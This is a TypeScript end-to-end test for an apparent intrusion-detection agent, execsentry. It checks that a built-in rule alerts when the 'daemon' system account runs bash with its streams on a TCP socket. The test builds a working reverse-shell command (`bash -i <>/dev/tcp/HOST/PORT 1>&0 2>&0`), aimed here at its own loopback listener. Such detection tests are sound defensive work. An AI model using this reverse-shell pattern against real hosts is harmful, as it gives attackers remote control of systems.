import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Alert } from '../../src/ecs/types.js';
import { expectEcsConformant } from '../engine/ecs.js';
import { describeAsRoot } from '../helpers/privilege.js';
import { privateShell, regularUser, removeDir, sharedTempDir, startAgent, type RunningAgent } from './harness.js';

/**
 * execsentry's own built-in rule against the backdoor it is for: a service account's shell whose standard
 * streams are a TCP connection to the attacker (`bash -i <>/dev/tcp/HOST/PORT 1>&0 2>&0`), here to a
 * loopback listener that types `exit` once the shell is up. The agent runs with its default (built-in) rules.
 */

const RULE_ID = '4caba3a8-7215-47fb-b429-4f61796a0dcd';
const RULE_NAME = 'Shell or Interpreter on a Network Socket Started by a System Account';

/** How long the shell lives before it is told to exit: enough for the reader thread to take its snapshot. */
const INPUT_DELAY_MS = 300;

interface Listener {
  server: Server;
  port: number;
  /** What the shells that connected wrote (prompt and echo go to the socket too). */
  received: string[];
}

/** A TCP listener on 127.0.0.1 that sends `exit\n` to every connection after a moment. */
async function exitingListener(): Promise<Listener> {
  const received: string[] = [];
  const server = createServer((socket: Socket) => {
    let text = '';
    socket.setEncoding('utf8').on('data', (chunk: string) => (text += chunk));
    socket.on('close', () => received.push(text));
    socket.on('error', () => undefined);
    setTimeout(() => socket.write('exit\n'), INPUT_DELAY_MS);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, port: (server.address() as { port: number }).port, received };
}

/** Runs `sh -c command` without a terminal (setsid, stdin from /dev/null), resolving with its exit status. */
function runDetached(command: string): Promise<number | null> {
  return new Promise((resolve, reject) => {
    const child = spawn('setsid', ['--wait', 'sh', '-c', command], { stdio: ['ignore', 'ignore', 'inherit'] });
    const killer = setTimeout(() => child.kill('SIGKILL'), 20_000);
    child.once('error', reject);
    child.once('close', (status) => {
      clearTimeout(killer);
      resolve(status);
    });
  });
}

/** `user` runs `shell -i` with stdin, stdout and stderr on a TCP connection to 127.0.0.1:port. */
function reverseShell(user: string, shell: string, port: number): Promise<number | null> {
  return runDetached(`runuser -u ${user} -- ${shell} -c 'exec ${shell} -i <>/dev/tcp/127.0.0.1/${port} 1>&0 2>&0'`);
}

function sharedSubdir(dir: string, name: string): string {
  const path = join(dir, name);
  mkdirSync(path, { mode: 0o755 });
  return path;
}

const ofRule = (alert: Alert): boolean => alert.rule.id === RULE_ID;
const byExecutable = (executable: string) => (alert: Alert) => ofRule(alert) && alert.process.executable === executable;

describeAsRoot('execsentry run, end to end: a reverse shell as a system account', () => {
  let dir: string;
  let listener: Listener;
  let agent: RunningAgent | undefined;

  beforeAll(async () => {
    dir = sharedTempDir('execsentry-reverse-shell-');
    listener = await exitingListener();
  });

  afterAll(async () => {
    await agent?.stop('SIGKILL');
    listener?.server.close();
    removeDir(dir);
  });

  it('daemon: one alert with the remote end; the same shell on a pipe, or as a regular user on a socket: none', { timeout: 90_000 }, async () => {
    const user = regularUser();
    try {
      // The regular user must be one the rule does not count: a login shell, uid ≥ UID_MIN (1000 here).
      const entry = spawnSync('getent', ['passwd', user.name], { encoding: 'utf8' }).stdout.trim().split(':');
      expect(Number(entry[2])).toBeGreaterThanOrEqual(1000);
      expect(entry[6]).toMatch(/\/(ba|z|da)?sh$/);

      agent = await startAgent(['--state-dir', join(dir, 'state')]);
      // Copies named bash (the rule knows interpreters by name), each at a path of its own.
      const bash = (variant: string) => privateShell(sharedSubdir(dir, variant), '/bin/bash', 'bash');
      const shell = bash('reverse');
      const piped = bash('piped');
      const asUser = bash('regular-user');

      expect(await reverseShell('daemon', shell, listener.port)).toBe(0);
      const alert = await agent.waitForAlert(byExecutable(shell));
      expect(alert).toMatchObject({
        message: RULE_NAME,
        event: { kind: 'alert', severity: 73, risk_score: 73 },
        rule: { id: RULE_ID, name: RULE_NAME, author: ['execsentry'] },
        process: { executable: shell, name: 'bash', args: [shell, '-i'], interactive: false, user: { id: '1', name: 'daemon' } },
        user: { name: 'daemon' },
        threat: { tactic: { id: ['TA0002', 'TA0011'] }, technique: { subtechnique: { id: ['T1059.004'] } } },
        execsentry: { rule: { type: 'query' }, user: { system_account: true } },
      });
      const socket = { protocol: 'TCP', family: 'inet', transport: 'tcp', local: { ip: '127.0.0.1', port: expect.any(Number) }, remote: { ip: '127.0.0.1', port: listener.port } };
      expect(alert.execsentry.stdio).toEqual({
        stdin: { type: 'socket', socket },
        stdout: { type: 'socket', socket },
        stderr: { type: 'socket', socket },
      });
      expectEcsConformant(alert);

      // The same shell as daemon with stdin and stdout on pipes.
      expect(await runDetached(`printf 'exit\\n' | runuser -u daemon -- ${piped} -c 'exec ${piped} -i' 2>&1 | cat`)).toBe(0);
      // A regular user's shell on a socket.
      expect(await reverseShell(user.name, asUser, listener.port)).toBe(0);
      // A second reverse shell as daemon: once its alert is in, every earlier exec has been judged.
      const control = bash('control');
      expect(await reverseShell('daemon', control, listener.port)).toBe(0);
      await agent.waitForAlert(byExecutable(control));

      // All three socket shells really ran on their connections (each prompt came back over it).
      for (let waited = 0; listener.received.length < 3 && waited < 5_000; waited += 50) await new Promise((resolve) => setTimeout(resolve, 50));
      expect(listener.received.filter((text) => /\$ /.test(text))).toHaveLength(3);

      expect(agent.alerts.filter(byExecutable(shell))).toHaveLength(1);
      expect(agent.alerts.filter(byExecutable(piped))).toEqual([]);
      expect(agent.alerts.filter(byExecutable(asUser))).toEqual([]);
      const { code } = await agent.stop();
      agent = undefined;
      expect(code).toBe(0);
    } finally {
      user.remove();
    }
  });
});
